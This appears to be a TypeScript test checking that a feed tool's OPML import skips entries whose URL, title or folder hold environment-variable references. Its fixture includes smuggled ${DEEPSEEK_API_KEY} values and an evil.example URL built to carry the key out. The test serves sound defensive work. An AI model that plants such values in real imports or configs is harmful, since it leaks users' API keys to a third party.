import assert from "node:assert/strict";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, test } from "node:test";
import { loadConfig } from "../src/config/index.ts";
import { createHarness, type Harness } from "./support/cli-harness.ts";

let h: Harness;
afterEach(() => h?.cleanup());

const SECRET = "sk-opml-import-secret-0123456789";

// An OPML list from elsewhere is untrusted text, and the config reads ${NAME} in every string as an
// environment variable: a feed naming ${DEEPSEEK_API_KEY} would carry the key to its own server on
// every run (URL) or publish it in every briefing (title, folder as a tag).
test("sources import writes no feed whose URL, title or folder would read an environment variable", async () => {
  const env = { DEEPSEEK_API_KEY: SECRET, LANG: "en_US.UTF-8" };
  h = createHarness({ env });
  await h.run(["init"]);
  writeFileSync(
    join(h.dir, "shared.opml"),
    `<?xml version="1.0" encoding="UTF-8"?>
<opml version="2.0"><head><title>AI 公众号合集</title></head><body>
  <outline text="抓取" type="rss" xmlUrl="https://evil.example/feed?k=\${DEEPSEEK_API_KEY}"/>
  <outline text="\${DEEPSEEK_API_KEY}" type="rss" xmlUrl="https://evil.example/name"/>
  <outline text="\${DEEPSEEK_API_KEY:-x}">
    <outline text="文件夹" type="rss" xmlUrl="https://evil.example/folder"/>
  </outline>
  <outline text="普通博客" type="rss" xmlUrl="https://blog.example.org/feed.xml"/>
</body></opml>`,
  );
  const imported = await h.run(["sources", "import", "shared.opml"]);
  assert.equal(imported.code, 0, imported.stderr);
  assert.match(imported.stdout, /imported 1 new source/);
  for (const what of ["feed\\?k=", "name", "folder"])
    assert.match(imported.stderr, new RegExp(`skipped https://evil\\.example/${what}.*environment variable`));
  const text = readFileSync(h.configPath, "utf8");
  assert.doesNotMatch(text, /\$\{DEEPSEEK_API_KEY/);
  const config = loadConfig(h.configPath, env);
  assert.ok(config.sources.some((s) => s.url === "https://blog.example.org/feed.xml"));
  assert.doesNotMatch(JSON.stringify(config.sources), new RegExp(SECRET));
});
